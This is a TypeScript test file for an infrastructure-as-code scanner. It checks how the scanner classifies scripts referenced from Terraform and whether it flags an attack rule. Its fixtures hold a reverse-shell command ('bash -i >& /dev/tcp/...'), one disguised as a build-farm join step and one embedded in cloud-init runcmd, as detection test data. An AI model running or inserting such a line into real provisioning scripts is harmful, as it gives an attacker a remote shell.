import * as assert from 'node:assert/strict';
import { referencedScriptFormat } from '../../../src/engine/index';
import { scanText, testEngine } from '../helpers/engine';

// A script that Terraform reads may have any name: `bootstrap`, `userdata.txt`, `user-data.cfg`.
// The engine scans it as a script when told to, and says which scripts a Terraform file reads.

const REVERSE_SHELL = '# joins the build farm\nset -eu\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n';
const CLOUD_CONFIG = '#cloud-config\nruncmd:\n  - bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n';

describe('scripts that Terraform reads', () => {
	describe('referencedScriptFormat', () => {
		it('keeps what the name or content says', () => {
			assert.equal(referencedScriptFormat('/ws/scripts/init.sh', 'echo hi\n'), 'shell');
			assert.equal(referencedScriptFormat('/ws/user-data.cfg', CLOUD_CONFIG), 'cloud-init');
			assert.equal(referencedScriptFormat('/ws/cloud-init.yaml.tftpl', CLOUD_CONFIG), 'cloud-init');
			assert.equal(referencedScriptFormat('/ws/k8s/job.yaml', 'apiVersion: batch/v1\nkind: Job\n'), 'kubernetes');
		});

		it('reads an extension-less or plain-text file as a shell script, shebang or not', () => {
			assert.equal(referencedScriptFormat('/ws/bootstrap', REVERSE_SHELL), 'shell');
			assert.equal(referencedScriptFormat('C:\\ws\\userdata.txt', REVERSE_SHELL), 'shell');
			assert.equal(referencedScriptFormat('/ws/user-data.cfg', 'apt-get update\n'), 'shell');
			assert.equal(referencedScriptFormat('vscode-vfs://github/acme/infra/boot.tpl', 'echo ${port}\n'), 'shell');
		});

		it('leaves YAML that is not cloud-init and rendered non-scripts alone', () => {
			assert.equal(referencedScriptFormat('/ws/helm/values.yaml', 'replicaCount: 2\nimage:\n  tag: ${tag}\n'), undefined);
			assert.equal(referencedScriptFormat('/ws/values.yml.tftpl', 'replicaCount: 2\n'), undefined);
			assert.equal(referencedScriptFormat('/ws/policy.json.tpl', '{ "Statement": [] }\n'), undefined);
			assert.equal(referencedScriptFormat('/ws/.hidden', 'echo hi\n'), undefined);
		});
	});

	describe('the format override of Engine.scan', () => {
		it('scans an extension-less file without a shebang only when given a format', async () => {
			const detected = await scanText('/ws/bootstrap', REVERSE_SHELL);
			assert.equal(detected.skipped, 'not a recognised IaC format');
			assert.deepEqual(detected.findings, []);

			const forced = await testEngine().scan({ path: '/ws/bootstrap', text: REVERSE_SHELL, format: 'shell' }, { today: '2026-06-01' });
			assert.equal(forced.format, 'shell');
			assert.equal(forced.skipped, undefined);
			assert.deepEqual(forced.findings.map(finding => [finding.ruleId, finding.range.start.line, finding.range.start.character, finding.range.end.character]),
				[['AUP-ATK-001', 2, 0, 41]]);
		});

		it('scans a .txt file as cloud-init when given that format', async () => {
			const result = await testEngine().scan({ path: '/ws/userdata.txt', text: CLOUD_CONFIG, format: 'cloud-init' }, { today: '2026-06-01' });
			assert.deepEqual(result.findings.map(finding => [finding.ruleId, finding.range.start.line, finding.range.start.character]), [['AUP-ATK-001', 2, 4]]);
		});
	});

	describe('ScanResult.referencedScripts', () => {
		it('lists the scripts a Terraform file reads, with the range of each path', async () => {
			const text = 'resource "aws_instance" "worker" {\n  user_data = file("${path.module}/bootstrap")\n  tags      = { Role = "worker" }\n}\n';
			const result = await scanText('/ws/infra/main.tf', text);
			assert.deepEqual(result.referencedScripts, [{
				path: '/ws/infra/bootstrap',
				relativePath: 'bootstrap',
				range: { start: { line: 1, character: 19 }, end: { line: 1, character: 45 } },
			}]);
		});

		it('is absent for a Terraform file that reads none and for other formats', async () => {
			assert.equal((await scanText('/ws/main.tf', 'resource "aws_s3_bucket" "b" {\n  bucket = "logs"\n}\n')).referencedScripts, undefined);
			assert.equal((await scanText('/ws/boot.sh', 'cat "$(file bootstrap)"\n')).referencedScripts, undefined);
		});
	});
});
